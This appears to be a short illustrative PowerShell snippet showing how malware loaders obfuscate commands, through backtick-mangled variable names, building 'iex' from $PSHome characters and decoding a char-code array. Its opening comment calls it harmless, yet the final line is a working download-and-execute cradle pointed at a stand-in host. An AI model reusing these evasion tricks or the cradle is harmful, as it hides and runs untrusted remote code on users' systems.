# A harmless script, wrapped as loaders wrap theirs.
${m`sg} = ('Write'+'-Host ')+"'hello'"
&( $PSHome[4]+$PSHome[30]+'x' ) $msg
$hidden = (87,114,105,116,101,45,72,111,115,116,32,40,71,101,116,45,68,97,116,101,41 | % { [char]$_ }) -join ''
iex $hidden
iex (New-Object Net.WebClient).DownloadString('http://next.example/stage')
